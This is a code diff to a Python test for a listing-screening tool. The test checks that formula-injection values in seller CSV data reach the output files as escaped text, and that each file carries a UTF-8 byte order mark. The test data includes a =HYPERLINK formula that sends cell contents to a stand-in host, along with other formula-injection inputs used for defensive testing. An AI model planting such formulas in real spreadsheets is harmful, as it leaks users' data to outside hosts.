@@ -308,17 +308,19 @@ def test_a_sellers_formula_reaches_the_spreadsheet_as_text_and_a_retry_as_it_was
     (tmp_path / "pics").mkdir()
     shutil.copy(photo, tmp_path / "pics" / "a.jpg")
     given = {"listing_id": ["@lot-1", "-2", "=3"], "image": ["pics/a.jpg", "pics/a.jpg", "pics/gone.jpg"],
-             "title": ['=HYPERLINK("http://x.test/?"&A1,"more")', "ivory tube", "+44 20 7946 0000"],
+             "title": ['=HYPERLINK("http://x.test/?"&A1,"more")', "ivoire sculpté 象牙", "+44 20 7946 0000"],
              "price": ["-5", "-", "\t=1+1"]}
     pd.DataFrame(given).to_csv(tmp_path / "t.csv", index=False)
     out, again = tmp_path / "out", tmp_path / "again"
     assert main(["-q", "screen", str(tmp_path / "t.csv"), "--out", str(out), "--model", str(model)]) == 3
     cells = {}
     for name in ("results.csv", "queue.csv", "listings.csv", "errors.csv"):
-        with open(out / name, newline="", encoding="utf-8") as fh:
+        assert (out / name).read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads "sculpté", not "sculptÃ©"
+        with open(out / name, newline="", encoding="utf-8-sig") as fh:
             cells[name] = [c for row in csv.reader(fh) for c in row]
         assert not [c for c in cells[name] if c[:1] in ("=", "+", "@", "\t") or re.match(r"-[^\d]", c)], name
-    assert {"'@lot-1", "'=3", "'" + given["title"][0], "-2", "-5", "-"} <= set(cells["results.csv"])
+    assert {"'@lot-1", "'=3", "'" + given["title"][0], "-2", "-5", "-", given["title"][1]} <= set(cells["results.csv"])
+    assert pd.read_csv(out / "results.csv").columns[0] == "row"
     assert {"'=3", "'+44 20 7946 0000", "'\t=1+1"} <= set(cells["errors.csv"])
     assert "'@lot-1" in cells["queue.csv"] and "'@lot-1" in cells["listings.csv"]
     records = read_evidence(out / "evidence.jsonl")
